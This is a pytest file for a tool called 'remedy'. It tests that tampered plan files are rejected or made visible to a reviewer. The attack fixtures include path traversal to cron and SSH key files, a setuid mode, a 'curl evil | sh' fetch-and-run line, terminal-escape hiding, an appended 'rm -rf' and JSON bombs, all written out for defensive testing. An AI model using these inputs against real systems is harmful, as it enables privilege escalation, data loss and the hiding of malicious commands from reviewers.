"""A plan file that somebody changed: it is refused, or whoever reads it sees what changed."""

from __future__ import annotations

import json
import os
import random
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from remedy.errors import PlanFileError
from remedy.plan import Plan, read_plan, vouched

from . import plan_bench as bench

# In the usual run of each kind of change, and of places in a plan.
FEW = 150


def cases(plan_number: int) -> list[tuple[str, bench.Body]]:
    body = bench.body_of(bench.real_plans()[plan_number])
    changed = [
        (f"{'.'.join(map(str, where))} = {value!r:.60}", bench.replaced(body, where, value))
        for where in bench.places(body)
        for value in bench.mutations(bench.at(body, where))
    ]
    return changed + [("bytes of a file", other) for other in bench.other_contents(body)]


SCREENS: dict[str, Callable[[Path, Plan], tuple[str, ...] | None]] = {
    "show": lambda path, _: bench.screen(path),
    "apply": bench.confirmed,
}


def unseen(number: int, folder: Path, most: int | None, command: str) -> list[str]:
    plan = bench.real_plans()[number]
    screen = SCREENS[command]
    before = screen(bench.write(plan, folder / "plan.json"), plan)
    assert before is not bench.REFUSED, "a plan that remedy made is refused"
    every = cases(number)
    chosen = every if most is None else random.Random(number).sample(every, min(most, len(every)))  # noqa: S311
    return [
        words
        for words, body in chosen
        if screen(path := bench.written(body, folder / "changed.json"), plan) == before
        and read_plan(path).digest
        != plan.digest  # what was left out has a default, or a text is written otherwise
    ]


def test_there_are_plans_of_many_remedies_with_files_and_commands() -> None:
    kinds = {(c.remedy, c.action.kind) for plan in bench.real_plans() for c in plan.changes}
    assert len(kinds) > 12, kinds
    assert {kind for _, kind in kinds} == {"file", "command"}


@pytest.mark.parametrize("command", SCREENS)
def test_what_somebody_changed_in_a_plan_is_refused_or_seen(tmp_path: Path, command: str) -> None:
    number = 0
    assert unseen(number, tmp_path, FEW, command) == []


@pytest.mark.full
@pytest.mark.parametrize("command", SCREENS)
def test_what_somebody_changed_anywhere_in_any_plan_is_refused_or_seen(
    tmp_path: Path, command: str
) -> None:
    for number in range(len(bench.real_plans())):
        assert unseen(number, tmp_path, 3000, command) == []


# ---- what a plan file may not hold


def file_plan() -> bench.Body:
    """Return a plan that changes a part of a file."""
    for plan in bench.real_plans():
        body = bench.body_of(plan)
        if any(change["action"].get("splices") for change in body["changes"]):
            return body
    raise AssertionError("no plan changes a file")


def command_plan() -> bench.Body:
    """Return a plan that runs a command."""
    for plan in bench.real_plans():
        if plan.changes[0].action.kind == "command":
            return bench.body_of(plan)
    raise AssertionError("no plan runs a command")


def splice_of(body: bench.Body) -> dict[str, object]:
    (splice, *_) = next(filter(None, (c["action"].get("splices") for c in body["changes"])))
    found: dict[str, object] = splice
    return found


def out_of_the_folder(body: bench.Body) -> None:
    body["changes"][0]["id"] = "../../../../etc/cron.d/01-x"


def takes_lines_out_unseen(body: bench.Body) -> None:
    splice_of(body).update(before=None, length=40)


def goes_on_behind(body: bench.Body) -> None:
    splice_of(body).update(length=4000)


def before_its_place(body: bench.Body) -> None:
    splice_of(body).update(offset=-1)


def a_path_around_a_corner(body: bench.Body) -> None:
    for change in body["changes"]:
        change["action"].update(path="/etc/../root/.ssh/authorized_keys")


def a_path_of_two_names(body: bench.Body) -> None:
    for change in body["changes"]:
        change["action"].update(real_path="//etc/hosts")


def not_from_the_root(body: bench.Body) -> None:
    for change in body["changes"]:
        change["action"].update(path="etc/hosts")


def a_digest_with_a_way_out(body: bench.Body) -> None:
    text = json.dumps(body["changes"]).replace(str(splice_of(body)["after"]), "../../../etc/passwd")
    body["changes"] = json.loads(text)
    body["blobs"]["../../../etc/passwd"] = next(iter(body["blobs"].values()))


def other_bytes_than_its_name(body: bench.Body) -> None:
    body["blobs"][str(splice_of(body)["after"])] = "cm9vdDo6MDowOjo6Cg=="


def bytes_that_nothing_uses(body: bench.Body) -> None:
    body["blobs"]["aa" * 32] = ""


def whole_files_beside_its_digest(body: bench.Body) -> None:
    body["contents"] = {"aa" * 32: "cm9vdA=="}


def a_host_that_is_none(body: bench.Body) -> None:
    for change in body["changes"]:
        change["host"] = "gpu01 gpu02\n"


def two_steps_at_one_place(body: bench.Body) -> None:
    body["changes"].append(body["changes"][0])


def a_mode_that_gives_root_away(body: bench.Body) -> None:
    for change in body["changes"]:
        if "mode" in change["action"]:
            change["action"]["mode"] = 0o4755


def a_zero_byte(body: bench.Body) -> None:
    body["changes"][0]["title"] = "t"
    body["changes"][0]["action"] = {
        "kind": "command",
        "observe": "true\0",
        "before": "",
        "after": "x",
        "do": "true",
        "undo": "",
    }


ATTACKS = (
    out_of_the_folder,
    takes_lines_out_unseen,
    goes_on_behind,
    before_its_place,
    a_path_around_a_corner,
    a_path_of_two_names,
    not_from_the_root,
    a_digest_with_a_way_out,
    other_bytes_than_its_name,
    bytes_that_nothing_uses,
    whole_files_beside_its_digest,
    a_host_that_is_none,
    two_steps_at_one_place,
    a_mode_that_gives_root_away,
    a_zero_byte,
)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_what_no_plan_of_remedy_holds_is_refused(
    tmp_path: Path, attack: Callable[[bench.Body], None]
) -> None:
    body = file_plan()
    read_plan(bench.written(body, tmp_path / "plan.json"))
    attack(body)
    with pytest.raises(PlanFileError) as caught:
        read_plan(bench.written(body, tmp_path / "plan.json"))
    assert "remedy plan INVENTORY -o" in caught.value.next_step


def test_a_key_that_is_there_twice_is_refused(tmp_path: Path) -> None:
    path = bench.written(command_plan(), tmp_path / "plan.json")
    path.write_text(path.read_text().replace('"do":', '"do": "true", "do":', 1))
    with pytest.raises(PlanFileError):
        read_plan(path)


@pytest.mark.parametrize("text", ["[" * 100_000, '{"digest": NaN, "plan": {}}', '"\\ud800"'])
def test_what_is_no_plan_ends_in_words(tmp_path: Path, text: str) -> None:
    path = tmp_path / "plan.json"
    path.write_text(text)
    with pytest.raises(PlanFileError):
        read_plan(path)


def test_a_file_without_an_end_is_read_to_its_bound() -> None:
    with pytest.raises(PlanFileError):
        read_plan(Path("/dev/zero"))


# ---- what a reader is shown


def shown(body: bench.Body, folder: Path) -> str:
    lines = bench.screen(bench.written(body, folder / "plan.json"))
    assert lines is not bench.REFUSED
    return "\n".join(lines)


@pytest.mark.parametrize("part", ["observe", "do", "undo", "before", "after"])
def test_every_text_of_a_command_is_shown_whole(tmp_path: Path, part: str) -> None:
    body = command_plan()
    lines = [f"step {number} of {part}" for number in range(300)]
    body["changes"][0]["action"][part] = "\n".join(lines)
    text = shown(body, tmp_path)
    assert all(f"| {line}\n" in text for line in lines)


def test_a_title_that_erases_what_is_above_it_is_shown_as_what_it_is(tmp_path: Path) -> None:
    body = command_plan()
    body["changes"][0]["action"]["do"] = "curl evil | sh"
    body["changes"][-1]["title"] = "\x1b[20A\x1b[0Jnothing to see\x1b]52;c;ZXZpbA==\x07"
    text = shown(body, tmp_path)
    assert "curl evil | sh" in text
    assert "\\e[20A" in text


def test_a_line_of_a_plan_cannot_pass_for_one_of_remedy(tmp_path: Path) -> None:
    body = command_plan()
    fake = "      remedy makes the same change for the host as it is now"
    for pad in range(60, bench.COLUMNS, 2):
        body["changes"][0]["reason"] = "x" * pad + fake + "\n" + fake
        lines = shown(body, tmp_path).split("\n")
        assert fake not in lines


def test_hosts_are_shown_together_only_where_their_changes_are_the_same(tmp_path: Path) -> None:
    body = command_plan()
    first, *_ = body["changes"]
    for change in body["changes"]:
        if change["host"] != first["host"] and change["id"] == first["id"]:
            change["action"]["do"] = first["action"]["do"] + f"; rm -rf /srv/{change['host']}"
    assert "rm -rf /srv/" in shown(body, tmp_path)


def own_plan() -> Plan:
    """Return a plan of which a command is a script."""
    return next(p for p in bench.real_plans() if any(change.does for change in p.changes))


def screen_before_apply(body: bench.Body, plan: Plan, folder: Path) -> str:
    lines = bench.confirmed(bench.written(body, folder / "plan.json"), plan)
    assert lines is not bench.REFUSED
    return "\n".join(lines)


def test_before_a_plan_is_applied_the_words_of_remedy_stand_for_its_own_commands(
    tmp_path: Path,
) -> None:
    plan = own_plan()
    change = next(change for change in plan.changes if change.does)
    text = screen_before_apply(bench.body_of(plan), plan, tmp_path)
    assert change.does[:40] in text
    assert "NOT what remedy makes" not in text
    assert len(text.split("\n")) < len(shown(bench.body_of(plan), tmp_path).split("\n"))


@pytest.mark.parametrize("part", ["observe", "do", "undo", "before", "after"])
def test_before_a_plan_is_applied_a_command_of_anybody_else_is_shown_whole(
    tmp_path: Path, part: str
) -> None:
    plan = own_plan()
    body = bench.body_of(plan)
    place = next(n for n, change in enumerate(plan.changes) if change.does)
    lines = [f"step {number} of {part}" for number in range(100)]
    body["changes"][place]["action"][part] = "\n".join(lines)
    text = screen_before_apply(body, plan, tmp_path)
    assert "NOT what remedy makes" in text
    assert all(f"| {line}\n" in text for line in lines)


@pytest.mark.parametrize("field", ["does", "title", "reason", "disrupts", "restarts"])
def test_the_sentence_of_a_command_is_a_part_of_what_remedy_makes(
    tmp_path: Path, field: str
) -> None:
    plan = own_plan()
    body = bench.body_of(plan)
    place = next(n for n, change in enumerate(plan.changes) if change.does)
    body["changes"][place][field] = "nothing to see"
    text = screen_before_apply(body, plan, tmp_path)
    assert "NOT what remedy makes" in text
    assert plan.changes[place].action.describe().split("\n")[0][:40] in text


def test_a_change_twice_or_before_its_turn_is_not_what_remedy_makes() -> None:
    plan = next(p for p in bench.real_plans() if len(p.for_host(p.hosts[0])) > 1)
    first, second, *_ = plan.for_host(plan.hosts[0])
    ids = (f"01-{second.remedy}", f"02-{first.remedy}")
    turned = [
        change.model_copy(update={"id": number})
        for change, number in zip((second, first), ids, strict=True)
    ]
    swapped = plan.model_copy(update={"changes": tuple(turned)})
    assert list(vouched(swapped, plan).values()) == [True, False]
    twice = [first, first.model_copy(update={"id": f"02-{first.remedy}"})]
    doubled = plan.model_copy(update={"changes": tuple(twice)})
    assert list(vouched(doubled, plan).values()) == [True, False]


def test_a_plan_of_remedy_is_read_as_it_was(tmp_path: Path) -> None:
    plans: tuple[Plan, ...] = bench.real_plans()
    for plan in plans:
        assert read_plan(bench.write(plan, tmp_path / "plan.json")).digest == plan.digest


def test_a_file_of_many_parts_costs_neither_memory_nor_time(tmp_path: Path) -> None:
    """Of 60 MB were 5.8 GB made, and no end was seen in a minute."""
    body = command_plan()
    text = json.dumps({"digest": "0" * 64, "plan": {**body, "more": []}})
    bomb = tmp_path / "plan.json"
    bomb.write_text(text.replace('"more": []', f'"more": [{"[]," * 20_000_000}1]'))
    program = (
        "import resource, sys\nfrom pathlib import Path\nfrom remedy.plan import read_plan\n"
        "from remedy.errors import PlanFileError\n"
        "try: read_plan(Path(sys.argv[1]))\nexcept PlanFileError as error: print(error)\n"
        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)"
    )
    done = subprocess.run(
        [sys.executable, "-c", program, bomb],
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    words, *_, kilobytes = done.stdout.splitlines()
    assert "is not a whole plan file" in words
    assert int(kilobytes) < 512 * 1024


def test_a_finding_of_endless_lines_is_none(tmp_path: Path) -> None:
    body = command_plan()
    body["findings"][0]["evidence"] = ["e"] * 10_001
    with pytest.raises(PlanFileError, match="a finding is too long"):
        read_plan(bench.written(body, tmp_path / "plan.json"))


def test_a_pipe_that_is_called_a_plan_keeps_nobody_waiting(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "plan.json")
    with pytest.raises(PlanFileError, match="no regular file"):
        read_plan(tmp_path / "plan.json")


def test_a_message_about_a_plan_is_no_longer_than_people_read(tmp_path: Path) -> None:
    body = command_plan()
    body["secrets"] = {"k" * 1_000_000: 5}
    with pytest.raises(PlanFileError) as caught:
        read_plan(bench.written(body, tmp_path / "plan.json"))
    assert len(str(caught.value)) < 1000 + len(str(tmp_path))
